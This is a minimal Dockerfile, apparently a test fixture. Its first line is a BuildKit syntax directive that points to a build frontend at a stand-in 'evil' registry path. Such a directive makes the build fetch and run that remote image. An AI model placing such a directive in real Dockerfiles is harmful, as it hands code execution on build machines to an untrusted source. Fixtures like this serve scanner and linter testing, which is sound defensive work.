# syntax=registry.example.com/evil/frontend:latest
FROM python:3.12
RUN echo hi
